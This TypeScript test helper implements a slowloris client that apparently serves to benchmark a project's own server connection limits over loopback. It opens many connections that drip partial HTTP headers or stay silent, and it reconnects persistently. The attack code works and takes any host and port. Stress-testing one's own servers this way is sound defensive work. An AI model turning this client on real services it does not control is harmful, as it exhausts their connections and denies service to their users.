/**
 * A hostile client for tests and benchmarks of serve's connection limits (issue 25 item 1): it
 * opens many connections from one loopback address and holds them. `http`: each sends a request's
 * head one byte at a time and never ends it (slowloris); `tcp`: bare TCP connections that send
 * nothing (to a TLS port: a handshake that never starts). A connection the server closes is opened
 * again after `reconnectDelayMs`, as a persistent attacker would, until {@link Slowloris.stop}.
 *
 * Needs one file descriptor per connection in this process: {@link requireOpenFiles} says so.
 */
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';

export interface SlowlorisOptions {
  host: string;
  port: number;
  /** The attacker's own address, e.g. 127.0.0.2 (any 127.0.0.0/8 address works on Linux). */
  localAddress: string;
  connections: number;
  mode: 'http' | 'tcp';
  /** One byte to every open connection this often (mode `http`). */
  dripMs?: number;
  /** A connection the server closed is opened again after this. */
  reconnectDelayMs?: number;
}

export interface Slowloris {
  /** Connections that completed the TCP handshake, reconnections included. */
  readonly connected: number;
  /** Connections the server closed (or reset). */
  readonly closedByServer: number;
  /** Connections open now. */
  readonly open: number;
  /** Closes every connection and stops reconnecting. */
  stop(): Promise<void>;
}

/** A request head that never ends: after it, one header byte per drip. */
const HEAD = 'GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: ';

/** Starts the attack; connections are opened at once (the kernel's backlog delays some). */
export function startSlowloris(options: SlowlorisOptions): Slowloris {
  const { host, port, localAddress, connections, mode } = options;
  const reconnectDelayMs = options.reconnectDelayMs ?? 1000;
  /** Every socket not yet closed, connecting ones included. */
  const sockets = new Set<Socket>();
  /** Connected sockets and the bytes each has sent. */
  const live = new Map<Socket, number>();
  const timers = new Set<NodeJS.Timeout>();
  let stopped = false;
  let connected = 0;
  let closedByServer = 0;

  const open = (): void => {
    const socket = connect({ host, port, localAddress });
    sockets.add(socket);
    socket.setNoDelay(true);
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      connected += 1;
      live.set(socket, 0);
    });
    socket.once('close', () => {
      sockets.delete(socket);
      live.delete(socket);
      if (stopped) return;
      closedByServer += 1;
      const timer = setTimeout(() => {
        timers.delete(timer);
        if (!stopped) open();
      }, reconnectDelayMs);
      timers.add(timer);
    });
  };
  for (let i = 0; i < connections; i += 1) open();

  // One timer drips a byte to every connection, rather than one timer per connection.
  const drip =
    mode === 'http'
      ? setInterval(() => {
          for (const [socket, sent] of live) {
            if (!socket.writable) continue;
            socket.write(sent < HEAD.length ? HEAD[sent]! : 'a');
            live.set(socket, sent + 1);
          }
        }, options.dripMs ?? 200)
      : undefined;

  return {
    get connected() {
      return connected;
    },
    get closedByServer() {
      return closedByServer;
    },
    get open() {
      return live.size;
    },
    async stop() {
      stopped = true;
      clearInterval(drip);
      for (const timer of timers) clearTimeout(timer);
      const closing = [...sockets].map((socket) => new Promise<void>((resolve) => socket.once('close', () => resolve()).destroy()));
      await Promise.all(closing);
    },
  };
}

/**
 * The soft limit on open files of this process (RLIMIT_NOFILE, from /proc/self/limits; Node
 * raises it to the hard limit at start), or undefined where /proc is not there.
 */
export function openFilesLimit(): number | undefined {
  try {
    const line = readFileSync('/proc/self/limits', 'utf8')
      .split('\n')
      .find((l) => l.startsWith('Max open files'));
    const soft = line?.split(/\s{2,}/)[1];
    return soft === undefined ? undefined : soft === 'unlimited' ? Infinity : Number(soft);
  } catch {
    return undefined;
  }
}

/**
 * Fails loudly when this process may not open `needed` files: the attack, the server's side of
 * the connections it admits, the scrapes and the database all take descriptors.
 *
 * @throws Error naming `ulimit -n` and the number needed.
 */
export function requireOpenFiles(needed: number): void {
  const limit = openFilesLimit();
  if (limit !== undefined && limit < needed) {
    throw new Error(
      `this process may open ${limit} files (RLIMIT_NOFILE), the slowloris attack needs ${needed}: raise the hard limit (ulimit -Hn ${needed}, or LimitNOFILE / --ulimit nofile=${needed}) and run again`,
    );
  }
}
